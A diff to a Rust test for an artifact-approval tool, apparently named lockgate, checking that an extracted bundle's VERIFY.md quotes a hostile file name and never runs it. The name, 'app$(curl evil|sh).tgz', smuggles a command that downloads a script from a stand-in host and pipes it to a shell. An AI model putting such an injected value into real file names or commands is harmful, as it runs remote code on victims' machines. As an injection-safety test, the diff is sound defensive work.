@@ -75,13 +75,23 @@ fn a_bundle_of_what_was_not_granted_proves_no_grant() {
 
 #[test]
 fn a_bundle_says_what_it_proves_and_is_taken_apart_alone() {
-    let lockgate = Instance::pending();
+    let lockgate = Instance::demo();
+    // Whatever a file is called, what says how to check it runs nothing else.
+    let file = "app$(curl evil|sh).tgz";
+    lockgate.write(file, artifact("1.4.2"));
+    let push = ["push", file, "--service", "shop/web", "--version", "1.4.2"];
+    let evidence = ["--tests", "junit.xml", "--sbom", "sbom.cdx.json", "--scan", "trivy.json"];
+    lockgate.run(&[&push[..], &evidence].concat()).exits(0);
+    lockgate.promote("1.4.2").exits(5);
     let get = || lockgate.run(&["bundle", "get", "P-3", "--file", "p3.lockgate"]).exits(0);
     get().says("proves that P-3 is pending, and no grant");
     lockgate.run(&["approve", "P-3", "--as", "sam", "--yes"]).exits(0);
     get().says("proves that P-3 is granted");
     let extract = ["bundle", "extract", "p3.lockgate", "--to", "parts"];
     lockgate.run(&extract).exits(0);
+    let told = fs::read_to_string(lockgate.file("parts").join("VERIFY.md")).unwrap();
+    assert!(told.contains(&format!("verification_summary/v1 '{file}'\n")), "{told}");
+    assert_eq!(told.matches("$(").count(), 1, "{told}");
     lockgate.run(&extract).refused(7, "DIRECTORY_NOT_EMPTY");
 }
 
